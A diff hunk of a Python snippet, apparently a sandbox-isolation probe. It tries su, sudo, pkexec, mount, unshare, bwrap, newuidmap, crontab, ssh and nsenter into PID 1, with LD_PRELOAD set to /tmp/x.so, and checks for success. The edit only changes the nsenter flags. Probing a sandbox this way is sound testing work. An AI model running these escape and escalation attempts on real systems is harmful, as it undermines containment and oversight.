@@ -134,7 +134,7 @@ decode = encode
 import subprocess
 open("x.c", "w").close()
 for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"], ["unshare", "-Ur", "id"], ["bwrap", "--dev-bind", "/", "/", "id"],
-                ["newuidmap", "1", "0", "0", "1"], ["pkexec", "id"], ["crontab", "x.c"], ["ssh", "localhost"], ["nsenter", "-t", "1", "-a", "id"]):
+                ["newuidmap", "1", "0", "0", "1"], ["pkexec", "id"], ["crontab", "x.c"], ["ssh", "localhost"], ["nsenter", "-t", "1", "-m", "-p", "id"]):
     try:
         ended = subprocess.run(command, env={"PATH": "/usr/bin:/bin:/usr/sbin:/sbin", "LD_PRELOAD": "/tmp/x.so"}, capture_output=True, timeout=3, stdin=subprocess.DEVNULL)
         if ended.returncode == 0:
